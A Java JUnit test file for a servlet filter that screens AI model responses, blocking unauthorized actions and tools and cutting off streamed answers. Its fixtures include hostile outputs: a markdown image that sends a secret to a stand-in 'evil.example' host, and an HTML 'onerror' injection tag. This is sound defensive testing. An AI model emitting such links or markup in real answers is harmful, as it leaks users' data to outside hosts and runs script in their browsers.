package io.github.gatehouse.servlet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.gatehouse.servlet.ProviderStream.Seen;
import jakarta.servlet.Filter;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletRequestWrapper;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

/** Actions and tools, as clients see what becomes of them. */
class OutputFilterTest {

    private static final String JSON = "application/json";
    private final TestServer server = new TestServer();
    private volatile String answer = "";

    @AfterEach
    void stop() throws Exception {
        server.close();
    }

    /** Answers with what it is sent, under the type that the client asks for. */
    private void start(Map<String, String> settings) throws Exception {
        server.filter(new OutputFilter(), "output", "/*", settings)
                .servlet("/", (request, response) -> {
                    response.setContentType(request.getParameter("type"));
                    byte[] body = request.getInputStream().readAllBytes();
                    for (byte each : body) {
                        response.getOutputStream().write(each);
                        response.flushBuffer();
                    }
                })
                .start();
    }

    @Test
    void answer_withAnotherActionIsReplacedByTheRefusal() throws Exception {
        start(Map.of("actions", "search"));
        assertThat(server.post("/?type=application/json", JSON, "{\"action\":\"search\"}")
                        .body())
                .isEqualTo("{\"action\":\"search\"}");
        var refused = server.post("/?type=application/json", JSON, "{\"action\":\"delete\"}");
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.body()).contains("AI suggested unauthorized action").doesNotContain("delete");
    }

    @Test
    void stream_isBrokenOffBeforeTheActionGoesOut() throws Exception {
        start(Map.of("actions", "search"));
        String good =
                "data: {\"text\":\"well: {\\\"act\"}\n\ndata: {\"text\":\"ion\\\":\\\"search\\\"}\"}\n\ndata: [DONE]\n\n";
        assertThat(server.post("/?type=text/event-stream", "text/plain", good).body())
                .isEqualTo(good);
        String begun = "data: {\"text\":\"hello\"}\n\n" + good.replace("search", "delete");
        assertThatThrownBy(() -> server.post("/?type=text/event-stream", "text/plain", begun))
                .isInstanceOf(IOException.class);
        String seen = server.raw("POST /?type=text/event-stream HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
                + "Content-Length: " + begun.getBytes(StandardCharsets.UTF_8).length + "\r\nConnection: close\r\n\r\n"
                + begun);
        assertThat(seen).contains("hello", "event: error", "action-refused").doesNotContain("delete", "well", "DONE");
    }

    @Test
    void request_thatOffersAnotherToolIsRefused() throws Exception {
        start(Map.of("tools", "look_up", "role-tools", "agent=refund"));
        var refused = server.post("/?type=application/json", JSON, "{\"tools\":[{\"name\":\"refund\"}]}");
        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.body()).contains("tool-refused", "Tool not allowed").doesNotContain("refund");
        assertThat(server.post("/?type=application/json", JSON, "{\"tools\":[{\"name\":\"look_up\"}]}")
                        .statusCode())
                .isEqualTo(200);
    }

    @Test
    void tool_isRemovedBeforeTheApplicationReadsTheRequest() throws Exception {
        start(Map.of("tools", "look_up", "offered", "remove"));
        assertThat(server.post(
                                "/?type=application/json",
                                JSON,
                                "{\"tools\":[{\"name\":\"look_up\"},{\"name\":\"refund\"}],\"x\":1.0}")
                        .body())
                .isEqualTo("{\"tools\":[{\"name\":\"look_up\"}],\"x\":1.0}");
    }

    @Test
    void role_addsActionsAndTools() throws Exception {
        Filter login = (request, response, chain) -> chain.doFilter(
                new HttpServletRequestWrapper((HttpServletRequest) request) {
                    @Override
                    public boolean isUserInRole(String role) {
                        return role.equals(request.getParameter("role"));
                    }
                },
                response);
        server.filter(login, "login", "/*");
        start(Map.of("actions", "search", "role-actions", "agent=refund"));
        String refund = "{\"action\":\"refund\"}";
        assertThat(server.post("/?role=agent&type=application/json", JSON, refund)
                        .statusCode())
                .isEqualTo(200);
        assertThat(server.post("/?role=guest&type=application/json", JSON, refund)
                        .statusCode())
                .isEqualTo(403);
        assertThat(server.post("/?type=application/json", JSON, refund).statusCode())
                .isEqualTo(403);
    }

    /** What a client sees of an answer that streams, though the connection breaks. */
    private String streamed(String answer) throws Exception {
        return server.raw("POST /?type=text/event-stream HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
                + "Content-Length: " + answer.getBytes(StandardCharsets.UTF_8).length + "\r\nConnection: close\r\n\r\n"
                + answer);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "links | docs.example.com | see https://docs.example.com/a now | ![x](https://ev|il.example/?q=s3cret)",
                "html | false | a < b and more | <im|g src=x onerror=s3cret()>",
                "length | 20 | short enough | s3cret that is |much longer than that",
                "code | false | use `x` here | ``|`\\ns3cret\\n```"
            })
    void boundaries_holdForAnswersWholeAndStreamed(String name, String value, String good, String begun, String rest)
            throws Exception {
        start(Map.of(name, value));
        String whole = "{\"text\":\"%s\"}";
        assertThat(server.post("/?type=application/json", JSON, whole.formatted(good))
                        .body())
                .isEqualTo(whole.formatted(good));
        var refused = server.post("/?type=application/json", JSON, whole.formatted(begun + rest));
        assertThat(refused.statusCode()).isEqualTo(502);
        assertThat(refused.body()).contains("answer-invalid").doesNotContain("s3cret", "evil");

        String stream = "data: {\"text\":\"%s\"}\n\ndata: {\"text\":\"%s\"}\n\ndata: [DONE]\n\n";
        assertThat(streamed(stream.formatted(good, " "))).contains(good, "DONE").doesNotContain("event: error");
        assertThat(streamed(stream.formatted(begun, rest)))
                .contains("event: error", "answer-invalid")
                .doesNotContain("DONE", "il.example", "onerror", "much longer", "ns3cret");
    }

    /** What a client of this provider gets of an answer. */
    private Seen seen(ProviderStream provider, String events) throws Exception {
        answer = events + provider.stop;
        return provider.seen(server);
    }

    @ParameterizedTest
    @EnumSource
    void stream_thatIsRefused_endsInAnErrorOfItsProvider(ProviderStream provider) throws Exception {
        server.filter(
                        new OutputFilter(),
                        "output",
                        "/*",
                        Map.of("actions", "search", "tools", "look_up", "links", "docs.example.com"))
                .servlet("/", (request, response) -> {
                    response.setContentType("text/event-stream");
                    for (byte each : answer.getBytes(StandardCharsets.UTF_8)) {
                        response.getOutputStream().write(each);
                        response.flushBuffer();
                    }
                })
                .start();
        String good = provider.saying("Hello", "{\\\"act", "ion\\\":\\\"search\\\"}") + provider.calling("look_up");
        assertThat(seen(provider, good)).isEqualTo(new Seen(good + provider.stop, true));
        for (String bad : List.of(
                provider.calling("s3cret"),
                provider.saying("well: {\\\"act", "ion\\\":\\\"s3cret\\\"}"),
                provider.saying("well: ![x](https://s3", "cret.example/?q=1)"))) {
            Seen seen = seen(provider, provider.saying("Hello") + bad);
            assertThat(provider.failed(seen)).as(seen.events()).isTrue();
            assertThat(seen.events())
                    .startsWith(provider.saying("Hello"))
                    .doesNotContain("well", "s3", "stop", "STOP", "completed");
        }
    }
}
